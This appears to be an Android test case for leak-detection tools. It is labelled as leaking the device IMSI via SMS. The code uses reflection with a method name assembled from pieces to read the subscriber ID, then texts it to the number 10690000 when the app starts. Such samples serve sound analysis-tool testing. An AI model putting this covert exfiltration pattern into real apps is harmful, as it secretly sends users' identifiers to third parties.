// about       The name of the method that reads the number of the card is put together from letters.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    StringBuilder name = new StringBuilder("get");
    name.append("Subscriber").append('I').append('d');
    try {
      Object read = TelephonyManager.class.getMethod(name.toString()).invoke(phone);
      SmsManager.getDefault().sendTextMessage("10690000", null, "is " + read, null, null);
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}
